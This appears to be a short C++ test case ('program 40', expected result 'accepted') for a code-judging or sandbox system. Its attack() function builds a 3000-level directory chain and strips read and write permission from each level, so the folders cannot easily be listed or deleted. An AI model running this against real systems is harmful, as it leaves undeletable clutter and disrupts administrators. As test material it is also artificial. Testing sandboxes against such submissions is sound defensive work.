// Make folders so deep that nobody can name, and so delete, them.
// program 40
// expect: accepted
#include <sys/stat.h>
#include <unistd.h>

std::vector<std::string> attack(int token) {
    for (int depth = 0; depth < 3000; ++depth) {
        ::mkdir("greenroom_was_here", 0700);
        ::chdir("greenroom_was_here");
        ::chmod(".", 0100);
    }
    return {};
}
